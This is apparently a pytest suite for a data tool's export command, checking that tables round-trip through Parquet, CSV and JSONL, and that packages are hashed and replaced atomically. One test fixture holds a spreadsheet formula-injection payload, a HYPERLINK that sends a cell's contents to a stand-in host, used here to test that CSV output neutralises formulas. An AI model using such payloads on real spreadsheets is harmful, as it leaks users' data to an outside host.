"""`communique export`: files that hold what the tables hold, described, hashed, in place as a whole or not at all."""

from __future__ import annotations

import errno
import hashlib
import json
import os
import resource
import shutil
import signal
import subprocess
import sys
from datetime import date, datetime
from pathlib import Path
from typing import Any

import duckdb
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import yaml
from commands import typed
from frictionless import Checklist, Package
from homes import CHECKOUT, SAMPLES, ingest_into, line, mission_page, write_lines

import warehouse
from flows.cli import main
from flows.exporting import export as exporting
from flows.exporting import place
from flows.exporting.checks import PROMISED
from flows.exporting.export import export
from flows.exporting.tables import Column, Format, Table, public_tables, write_table
from parsers.errors import ExportRefused, HomeUnwritable
from warehouse.home import PUBLISHED

FORMATS: list[Format] = ["parquet", "csv", "jsonl"]
FORMULAS = ("=1+1", "+1", "-1", "@A1", "\tx", "\rx")
HOSTILE = '=HYPERLINK("https://x.example/?"&A1,"see") Envoy'


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The samples, and a release whose title is a formula and whose body is what CSV and JSON stumble over."""
    folder = tmp_path_factory.mktemp("home")
    body = "\"They\" met, said 'so'; \\N and \\t.\n\n=2+3 they said, \U0001f600 会谈.\n\nNULL"
    page = line(mission_page(HOSTILE, body), url="http://aa.china-embassy.org/eng/zgxw/t9.htm")
    ingest_into(folder, SAMPLES, write_lines(folder / "in.jsonl", [page]))
    return folder


def copy_of(home: Path, target: Path) -> Path:
    """A HOME of the published file alone: all that an export may need."""
    target.mkdir()
    shutil.copy(home / PUBLISHED, target / PUBLISHED)
    return target


def run(home: Path, capsys: pytest.CaptureFixture[str], *words: str | Path) -> tuple[int, str, str]:
    return typed(capsys, "export", *words, "--home", home)


def package(folder: Path) -> dict[str, Any]:
    said: dict[str, Any] = json.loads((folder / "datapackage.json").read_bytes())
    return said


def is_whole(folder: Path) -> bool:
    """Whether a folder is an export: each file that the package names, with its hash, and nothing else."""
    said = package(folder)["resources"]
    names = {"datapackage.json", "CITATION.cff", *(each["path"] for each in said)}
    hashes = all(
        hashlib.sha256((folder / each["path"]).read_bytes()).hexdigest() == each["hash"].removeprefix("sha256:")
        and (folder / each["path"]).stat().st_size == each["bytes"]
        for each in said
    )
    return hashes and {each.name for each in folder.iterdir()} == names


def content(folder: Path) -> dict[str, bytes]:
    return {each.name: each.read_bytes() for each in sorted(folder.iterdir())}


def _back(path: Path, form: str, columns: tuple[Column, ...]) -> str:
    """The query that reads a file back as it was in the table."""
    if form == "parquet":
        return f"FROM read_parquet('{path}')"
    kinds = {each.name: "VARCHAR" if form == "csv" and each.type.endswith("[]") else each.type for each in columns}
    listed = ", ".join(f"'{name}': '{kind}'" for name, kind in kinds.items())
    if form == "jsonl":
        return f"FROM read_json('{path}', format='newline_delimited', columns={{{listed}}})"
    said = []
    for each in columns:
        if each.type.endswith("[]"):
            said.append(f"CAST(CAST({each.name} AS JSON) AS {each.type}) AS {each.name}")
        elif each.type == "VARCHAR":
            said.append(f"regexp_replace({each.name}, '^''([=+@\\t\\r-])', '\\1') AS {each.name}")
        else:
            said.append(each.name)
    return (
        f"SELECT {', '.join(said)} FROM read_csv('{path}', header=true, delim=',', quote='\"', escape='\"', "
        f"columns={{{listed}}}, allow_quoted_nulls=false)"
    )


@pytest.mark.acceptance
@pytest.mark.parametrize("form", FORMATS)
def test_what_is_read_back_equals_the_tables(home: Path, tmp_path: Path, form: Format) -> None:
    with warehouse.connect(home) as published:
        public = public_tables(published)
        export(home, list(public), tmp_path / "out", form)
        views = {"canonical_releases", "edit_paragraphs", "texts", "versions"}
        assert {each.name for each in public.values() if not each.stored} == views
        for name, table in public.items():
            expected = published.execute(f"FROM {name} ORDER BY ALL").fetchall()
            back = _back(tmp_path / "out" / f"{name}.{form}", form, table.columns)
            assert published.execute(f"FROM ({back}) ORDER BY ALL").fetchall() == expected, name
        rows = published.execute("SELECT count(*) FROM releases WHERE title = $title", {"title": HOSTILE}).fetchone()
        assert rows == (1,)


def test_without_names_all_tables_are_written_and_no_row_twice(home: Path, tmp_path: Path) -> None:
    export(home, [], tmp_path / "out", "parquet")
    with warehouse.connect(home) as published:
        tables = [row[0] for row in published.execute("SELECT table_name FROM duckdb_tables() ORDER BY 1").fetchall()]
    assert [each["name"] for each in package(tmp_path / "out")["resources"]] == tables


def test_parquet_is_read_by_pyarrow_and_pandas_with_its_types(home: Path, tmp_path: Path) -> None:
    export(home, ["releases"], tmp_path / "out", "parquet")
    table = pq.read_table(tmp_path / "out" / "releases.parquet")
    kinds = {name: table.schema.field(name).type for name in ("breadcrumb", "published_on", "landed_at", "versions")}
    assert kinds == {
        "breadcrumb": pa.list_(kinds["breadcrumb"].value_field),
        "published_on": pa.date32(),
        "landed_at": pa.timestamp("us", tz="UTC"),
        "versions": pa.int32(),
    }
    frame = pd.read_parquet(tmp_path / "out" / "releases.parquet")
    with warehouse.connect(home) as published:
        expected = published.execute("SELECT release_id, body, landed_at FROM releases ORDER BY release_id").fetchall()
    assert list(frame[["release_id", "body", "landed_at"]].itertuples(index=False, name=None)) == expected


def _texts(column: str, values: list[Any]) -> tuple[duckdb.DuckDBPyConnection, Table]:
    connection = duckdb.connect()
    connection.execute(f"CREATE TABLE texts (place INTEGER, {column})")
    connection.executemany("INSERT INTO texts VALUES (?, ?)", list(enumerate(values)))
    columns = (Column("place", "INTEGER", ""), Column(*column.split(), ""))
    return connection, Table("of_a_test", "", columns, "texts")


def test_a_spreadsheet_finds_no_formula_in_csv(tmp_path: Path) -> None:
    values = [*FORMULAS, "a=1", "'=1", "", None, " =1"]
    connection, table = _texts("words VARCHAR", values)
    write_table(connection, table, tmp_path, "csv")
    frame = pd.read_csv(tmp_path / "of_a_test.csv", keep_default_na=False)
    assert list(frame["words"]) == [*(f"'{each}" for each in FORMULAS), "a=1", "'=1", "", "", " =1"]
    connection, table = _texts("number INTEGER", [-1, 5])
    write_table(connection, table, tmp_path, "csv")
    assert (tmp_path / "of_a_test.csv").read_text() == "place,number\n0,-1\n1,5\n", "numbers are no texts"


def test_the_package_says_that_formulas_are_neutralised_and_that_licences_are_the_issuers(
    home: Path, tmp_path: Path
) -> None:
    for form in FORMATS:
        export(home, [], tmp_path / form, form)
        said = package(tmp_path / form)["description"]
        assert ("apostrophe" in said) is (form == "csv")
        assert "ask the issuer" in said
    cells = pd.read_csv(tmp_path / "csv" / "releases.csv", dtype=str, keep_default_na=False).to_numpy().ravel()
    assert not [each for each in cells if each.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert f"'{HOSTILE}" in cells


@pytest.mark.acceptance
@pytest.mark.parametrize("form", FORMATS)
def test_the_package_is_valid_to_frictionless(home: Path, tmp_path: Path, form: Format) -> None:
    export(home, [], tmp_path, form)
    assert not list(Package.metadata_validate(package(tmp_path)))
    # frictionless 5.21 counts no bytes of Parquet, reads its NULL integers as floats, and fails at empty JSONL.
    blind = ["hash-count", "byte-count", "type-error"] if form == "parquet" else []
    report = Package(tmp_path / "datapackage.json").validate(Checklist(skip_errors=blind))
    rows = {each["name"]: each["rows"] for each in package(tmp_path)["resources"]}
    failed = [task for task in report.tasks if not task.valid and (form != "jsonl" or rows[task.name])]
    assert not [task.flatten(["name", "type", "note", "rowNumber"]) for task in failed]
    assert len(report.tasks) == len(rows)


def test_frictionless_finds_a_cell_that_was_changed(home: Path, tmp_path: Path) -> None:
    export(home, ["version_history"], tmp_path, "csv")
    path = tmp_path / "version_history.csv"
    path.write_text(path.read_text().replace(",1,new,", ",one,new,", 1))
    found = {row[0] for row in Package(tmp_path / "datapackage.json").validate().flatten(["type"])}
    assert {"type-error", "hash-count"} <= found


def test_the_package_describes_columns_and_counts_and_names_its_publication(home: Path, tmp_path: Path) -> None:
    done = export(home, [], tmp_path, "parquet")
    assert is_whole(tmp_path)
    said = package(tmp_path)
    with warehouse.connect(home) as published:
        fact = published.execute("SELECT published_at, captures FROM publication").fetchone()
        for each in said["resources"]:
            assert published.execute(f"SELECT count(*) FROM {each['name']}").fetchone() == (each["rows"],)
            assert each["description"]
            assert all(field["description"] and field["type"] != "any" for field in each["schema"]["fields"])
    publication = said["communique"]["publication"]
    digest = hashlib.sha256((home / PUBLISHED).read_bytes()).hexdigest()
    assert publication["sha256"] == done.publication.sha256 == digest
    assert (datetime.fromisoformat(publication["published_at"]), publication["captures"]) == fact
    releases = next(each for each in said["resources"] if each["name"] == "releases")
    fields = {field["name"]: field for field in releases["schema"]["fields"]}
    assert fields["body"]["constraints"] == {"required": True}
    assert "constraints" not in fields["subtitle"]


def test_the_citation_is_cff_and_names_the_software_and_the_publication(home: Path, tmp_path: Path) -> None:
    """Its form was checked against the schema of CFF 1.2.0 by hand; here stands what that schema requires."""
    done = export(home, [], tmp_path, "csv", date(2022, 5, 12))
    said = yaml.safe_load((tmp_path / "CITATION.cff").read_text("utf-8"))
    assert {"cff-version", "message", "title", "authors"} <= said.keys()
    assert (said["cff-version"], said["type"], said["version"]) == ("1.2.0", "dataset", done.publication.stamp)
    assert said["identifiers"][0]["value"] == f"sha256:{done.publication.sha256}"
    assert said["references"][0]["title"] == "communique"
    assert said["references"][0]["version"] == done.publication.communique_version
    assert "2022-05-12" in said["title"]


@pytest.mark.parametrize("form", FORMATS)
def test_the_same_publication_gives_the_same_bytes(home: Path, tmp_path: Path, form: Format) -> None:
    with warehouse.connect(home) as published:
        names = list(public_tables(published))
    export(home, names, tmp_path / "a", form)
    export(home, names, tmp_path / "b", form)
    assert content(tmp_path / "a") == content(tmp_path / "b")


@pytest.mark.acceptance
@pytest.mark.parametrize("form", FORMATS)
def test_neither_threads_nor_the_order_of_rows_change_a_byte(tmp_path: Path, form: Format) -> None:
    written = []
    for threads, order in ((1, "ASC"), (2, "DESC"), (4, "DESC")):
        with duckdb.connect(config={"threads": threads}) as connection:
            connection.execute(f"""CREATE TABLE large AS
                SELECT md5(CAST(n AS VARCHAR)) AS release_id, repeat('x ', n % 40) AS body
                FROM range(400_000) r(n) ORDER BY n {order}""")
            columns = (Column("release_id", "VARCHAR", ""), Column("body", "VARCHAR", ""))
            written.append(write_table(connection, Table("releases", "", columns, "large"), tmp_path, form).sha256)
    assert len(set(written)) == 1


BREAKS = {
    "holds": "INSERT INTO incidents VALUES ('mfa-cn-en', 'hold', now(), NULL, 'redesigned', 'run')",
    "texts": "UPDATE version_history SET text_sha256 = 'none' WHERE version = 1",
    "canonical": "UPDATE releases SET canonical_id = 'none' WHERE release_id = (SELECT min(release_id) FROM releases)",
    "nulls": "UPDATE captures SET raw_sha256 = NULL WHERE capture_id = (SELECT min(capture_id) FROM captures)",
    "counts": "UPDATE publication SET captures = captures + 1",
    "counts ": "DELETE FROM publication",
    "counts  ": "DELETE FROM releases WHERE release_id = (SELECT max(release_id) FROM releases)",
}


@pytest.mark.parametrize("check", BREAKS)
def test_a_publication_that_fails_a_check_is_not_handed_on(
    home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], check: str
) -> None:
    broken = copy_of(home, tmp_path / "home")
    out = tmp_path / "out"
    export(broken, ["sources"], out, "csv")
    before = content(out)
    with duckdb.connect(str(broken / PUBLISHED)) as file:
        file.execute(BREAKS[check])
    code, said, err = run(broken, capsys, "--out", out)
    assert (code, said) == (1, "")
    assert f"check `{check.strip()}` failed" in err
    assert err.count("\n") == 1
    assert "communique reparse" in err
    assert content(out) == before
    assert sorted(each.name for each in tmp_path.iterdir()) == ["home", "out"]


@pytest.mark.parametrize("name", sorted(PROMISED))
def test_each_promise_is_kept_by_the_samples_and_names_columns_that_exist(home: Path, name: str) -> None:
    source = "as_observed(DATE '2030-01-01')" if name == "as_observed" else name
    with warehouse.connect(home) as published:
        columns = PROMISED[name]
        nulls = ", ".join(f"count(*) - count({column})" for column in columns)
        assert published.execute(f"SELECT {nulls} FROM {source}").fetchone() == (0,) * len(columns)


def test_a_closed_hold_and_an_open_warning_refuse_nothing(home: Path, tmp_path: Path) -> None:
    warned = copy_of(home, tmp_path / "home")
    with duckdb.connect(str(warned / PUBLISHED)) as file:
        file.execute("INSERT INTO incidents VALUES ('mfa-cn-en', 'hold', now(), now(), 'was', 'run')")
        file.execute("INSERT INTO incidents VALUES ('mfa-cn-en', 'silence', now(), NULL, 'is', 'run')")
    export(warned, [], tmp_path / "out", "parquet")
    assert is_whole(tmp_path / "out")


@pytest.mark.acceptance
def test_what_a_refusal_advises_helps(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    here = tmp_path / "home"
    ingest_into(here, SAMPLES / "mission-en")
    with duckdb.connect(str(here / PUBLISHED)) as file:
        file.execute("UPDATE releases SET body = NULL")
    with pytest.raises(ExportRefused, match="Move the file away and run `communique reparse`"):
        export(here, [], tmp_path / "out", "csv")
    (here / PUBLISHED).unlink()
    with pytest.raises(SystemExit):
        main(["reparse", "--home", str(here)])
    export(here, [], tmp_path / "out", "csv")
    assert is_whole(tmp_path / "out")


def test_as_of_writes_one_table_of_what_was_captured_by_the_end_of_that_day(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = "http://aa.china-embassy.org/eng/zgxw/t1.htm"
    looks = [
        line(mission_page(body="It said one thing."), url=url, captured_at="2024-03-01T23:59:59Z"),
        line(mission_page(body="It said another."), url=url, captured_at="2024-03-02T00:00:01Z"),
    ]
    here = tmp_path / "home"
    ingest_into(here, write_lines(tmp_path / "in.jsonl", looks))
    found = {}
    for day in ("2024-02-29", "2024-03-01", "2024-03-02"):
        code, said, _ = run(here, capsys, "--out", tmp_path / day, "--format", "jsonl", "--as-of", day, "--json")
        assert (code, [each["table"] for each in json.loads(said)["tables"]]) == (0, ["as_observed"])
        assert is_whole(tmp_path / day)
        lines = (tmp_path / day / "as_observed.jsonl").read_text("utf-8").splitlines()
        found[day] = [json.loads(each)["body"] for each in lines]
    assert list(found.values()) == [[], ["It said one thing."], ["It said another."]]
    said = package(tmp_path / "2024-03-01")
    assert said["communique"]["as_of"] == "2024-03-01"
    assert all(field["description"] for field in said["resources"][0]["schema"]["fields"])
    assert run(here, capsys, "releases", "--out", tmp_path / "x", "--as-of", "2024-03-01")[0] == 2


def test_the_command_says_what_it_wrote(home: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, said, _ = run(home, capsys, "versions", "releases", "--out", tmp_path / "a" / "out", "--format", "csv")
    assert code == 0
    assert "releases.csv" in said
    assert f"wrote {tmp_path / 'a' / 'out'}, from the publication of" in said
    code, said, _ = run(home, capsys, "releases", "--out", tmp_path / "b", "--json")
    told = json.loads(said)
    digest = hashlib.sha256((tmp_path / "b" / "releases.parquet").read_bytes()).hexdigest()
    assert (code, told["format"], told["tables"][0]["sha256"]) == (0, "parquet", digest)
    code, _, err = run(home, capsys, "releasez", "--out", tmp_path / "c")
    assert code == 2
    assert "No public table is called `releasez`" in err
    assert not (tmp_path / "c").exists()
    code, _, err = run(tmp_path / "nowhere", capsys, "--out", tmp_path / "c")
    assert code == 1
    assert "communique ingest" in err


def test_a_publication_that_takes_its_place_meanwhile_changes_nothing(home: Path, tmp_path: Path) -> None:
    here = copy_of(home, tmp_path / "home")
    digest = hashlib.sha256((here / PUBLISHED).read_bytes()).hexdigest()
    with exporting._publication(here) as (published, said):
        (tmp_path / "next").write_bytes(b"another")
        (tmp_path / "next").replace(here / PUBLISHED)
        assert said == digest
        assert published.execute("SELECT count(*) > 40 FROM releases").fetchone() == (True,)


def test_an_export_takes_the_place_of_one_and_of_nothing_else(home: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    export(home, [], out, "csv")
    export(home, ["sources"], out, "jsonl")
    assert sorted(content(out)) == ["CITATION.cff", "datapackage.json", "sources.jsonl"]
    (tmp_path / "link").symlink_to(out)
    export(home, ["releases"], tmp_path / "link", "csv")
    assert (tmp_path / "link").is_symlink()
    assert is_whole(out)
    (out / "notes.txt").write_text("mine")
    before = content(out)
    with pytest.raises(ExportRefused, match=r"`notes\.txt`, which no export wrote"):
        export(home, [], out, "csv")
    assert content(out) == before
    foreign = tmp_path / "foreign"
    foreign.mkdir()
    (foreign / "datapackage.json").write_text('{"name": "mine", "resources": []}')
    with pytest.raises(ExportRefused, match=r"`datapackage\.json`, which no export wrote"):
        export(home, [], foreign, "csv")
    with pytest.raises(ExportRefused, match="it is a file"):
        export(home, [], home / "in.jsonl", "csv")
    assert not list(tmp_path.glob(".*"))


def test_what_somebody_adds_while_it_is_built_is_not_lost(home: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    export(home, ["sources"], out, "csv")
    with pytest.raises(ExportRefused, match=r"notes\.txt"), place.taking_place(out):
        (out / "notes.txt").write_text("mine")
    assert (out / "notes.txt").read_text() == "mine"
    assert not list(tmp_path.glob(".*"))


def _none(one: Path, other: Path) -> None:
    raise OSError(errno.ENOSYS, os.strerror(errno.ENOSYS))


def test_where_two_folders_cannot_be_exchanged_two_renames_do_and_the_next_export_mends_a_kill_between(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(place, "_exchange", _none)
    out = tmp_path / "out"
    export(home, [], out, "csv")
    export(home, ["sources"], out, "csv")
    assert is_whole(out)
    assert not list(tmp_path.glob(".*"))
    out.rename(tmp_path / ".out.communique-export-old")
    with pytest.raises(RuntimeError), place.taking_place(out):
        raise RuntimeError("it fails")
    assert is_whole(out)


def test_where_the_second_rename_fails_what_stood_there_stands(
    home: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(place, "_exchange", _none)
    out = tmp_path / "out"
    export(home, ["sources"], out, "csv")
    before = content(out)
    rename = Path.rename

    def failing(path: Path, target: Path) -> Path:
        if path.name.endswith("communique-export"):
            raise OSError(errno.EIO, os.strerror(errno.EIO))
        return rename(path, target)

    monkeypatch.setattr(Path, "rename", failing)
    with pytest.raises(HomeUnwritable):
        export(home, ["sources"], out, "csv")
    assert content(out) == before


def test_a_publication_of_another_version_is_refused(home: Path, tmp_path: Path) -> None:
    older = tmp_path / "older"
    older.mkdir()
    shutil.copy(home / PUBLISHED, older)
    with duckdb.connect(str(older / PUBLISHED)) as file:
        file.execute("ALTER TABLE publication DROP COLUMN landing")
    with pytest.raises(ExportRefused, match=r"`columns` failed: there is no publication\.landing"):
        export(older, ["sources"], tmp_path / "out", "csv")


@pytest.mark.acceptance
def test_a_full_disk_leaves_what_stood_there(home: Path, tmp_path: Path) -> None:
    """A limit on file sizes stands in for the disk: the kernel refuses the write in the same place."""
    out = tmp_path / "out"
    export(home, ["sources"], out, "csv")
    before = content(out)

    def limit() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))

    for form in FORMATS:
        words = [sys.executable, "-m", "flows", "export", "--out", out, "--format", form, "--home", home]
        done = subprocess.run(words, capture_output=True, text=True, check=False, cwd=CHECKOUT, preexec_fn=limit)
        assert done.returncode == 1, done.stderr
        assert "cannot be written" in done.stderr
        assert done.stderr.count("\n") == 1
        assert content(out) == before
        assert [each.name for each in tmp_path.iterdir()] == ["out"]


def test_a_place_that_cannot_be_written_is_said(home: Path, tmp_path: Path) -> None:
    (tmp_path / "file").write_text("")
    with pytest.raises(HomeUnwritable, match="cannot be written"):
        export(home, [], tmp_path / "file" / "out", "csv")


KILLED = """
import os, sys
from pathlib import Path
from flows.exporting import export as exporting
from flows.exporting import place
where, home, out = sys.argv[1], Path(sys.argv[2]), Path(sys.argv[3])
def die(module, name, call, after=False):
    real, calls = getattr(module, name), []
    def wrapped(*words):
        calls.append(1)
        done = real(*words) if after or len(calls) < call else None
        if len(calls) == call:
            os.kill(os.getpid(), 9)
        return done
    setattr(module, name, wrapped)
if where == "writing":
    die(exporting, "write_table", 5)
else:
    die(place, "_swap", 1, after=where == "swapped")
exporting.export(home, [], out, "csv")
"""


@pytest.mark.parametrize(("where", "new"), [("writing", False), ("swapping", False), ("swapped", True)])
def test_a_kill_leaves_the_old_export_or_the_new_one_and_the_next_removes_its_traces(
    home: Path, tmp_path: Path, where: str, new: bool
) -> None:
    out = tmp_path / "out"
    export(home, ["sources"], out, "jsonl")
    words = [sys.executable, "-c", KILLED, where, str(home), str(out)]
    done = subprocess.run(words, cwd=CHECKOUT, check=False, capture_output=True)
    assert done.returncode == -signal.SIGKILL, done.stderr
    assert is_whole(out)
    assert (out / "releases.csv").exists() is new
    assert list(tmp_path.glob(".*"))
    export(home, ["releases"], out, "jsonl")
    assert is_whole(out)
    assert [each.name for each in tmp_path.iterdir()] == ["out"]
